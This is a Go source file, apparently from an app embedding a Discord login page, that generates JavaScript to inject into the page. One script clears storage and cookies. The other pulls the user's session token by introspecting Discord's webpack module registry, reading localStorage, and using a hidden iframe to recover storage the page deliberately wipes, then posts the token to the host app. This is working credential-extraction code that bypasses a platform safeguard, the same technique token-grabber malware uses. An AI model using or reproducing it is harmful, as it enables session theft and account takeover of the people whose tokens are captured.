package capture

import (
	"fmt"
	"time"
)

// ClearScript wipes local storage, session storage and cookies of the
// embedded page. Run before navigation so a stale session can never link the
// wrong account.
const ClearScript = `(function() {
  try {
    window.localStorage && window.localStorage.clear();
    window.sessionStorage && window.sessionStorage.clear();
    document.cookie.split(';').forEach(function(c) {
      document.cookie = c.replace(/^ +/, '').replace(/=.*/, '=;expires=' + new Date().toUTCString() + ';path=/');
    });
  } catch (e) {}
})();`

// BuildProbeScript renders the in-page probe. The three blocks mirror
// DefaultStrategies in the same order; the page loops on its own at the given
// interval and stops itself at the budget, so the host only has to consume
// the posted message. Results are posted through window.__sentinelPost, with
// a fallback to the react-native webview channel.
func BuildProbeScript(interval, budget time.Duration) string {
	return fmt.Sprintf(`(function() {
  let captured = false;

  function post(token) {
    const payload = JSON.stringify({type: 'TOKEN', data: token});
    if (window.__sentinelPost) { window.__sentinelPost(payload); return; }
    if (window.ReactNativeWebView) { window.ReactNativeWebView.postMessage(payload); }
  }

  function capture() {
    if (captured) return true;

    try {
      // 1. module registry introspection
      const registry = window.webpackChunkdiscord_app;
      if (registry) {
        const m = registry.push([[Symbol()], {}, (e) => e]);
        for (const i in m.c) {
          if (m.c[i].exports && m.c[i].exports.default && m.c[i].exports.default.getToken) {
            const token = m.c[i].exports.default.getToken();
            if (token && token.length > %d) {
              captured = true;
              post(token);
              return true;
            }
          }
        }
      }

      // 2. direct storage read
      try {
        const token = localStorage.getItem('token') || localStorage.getItem('_token');
        if (token && token.length > %d) {
          const clean = token.replace(/"/g, '').trim();
          if (clean.length > %d) {
            captured = true;
            post(clean);
            return true;
          }
        }
      } catch (e) {}

      // 3. storage resurrection: top-level storage gets wiped on render, a
      // fresh same-origin iframe still sees it
      try {
        const iframe = document.createElement('iframe');
        iframe.style.display = 'none';
        document.body.appendChild(iframe);
        const storage = iframe.contentWindow.localStorage;
        const token = storage.getItem('token') || storage.getItem('_token');
        if (token) {
          const clean = token.replace(/"/g, '').trim();
          if (clean.length > %d) {
            captured = true;
            post(clean);
            document.body.removeChild(iframe);
            return true;
          }
        }
        document.body.removeChild(iframe);
      } catch (e) {}
    } catch (e) {}
    return false;
  }

  if (capture()) return;

  const timer = setInterval(() => {
    if (capture()) clearInterval(timer);
  }, %d);

  setTimeout(() => clearInterval(timer), %d);
})();`,
		MinTokenLength, MinTokenLength, MinTokenLength, MinTokenLength,
		interval.Milliseconds(), budget.Milliseconds())
}
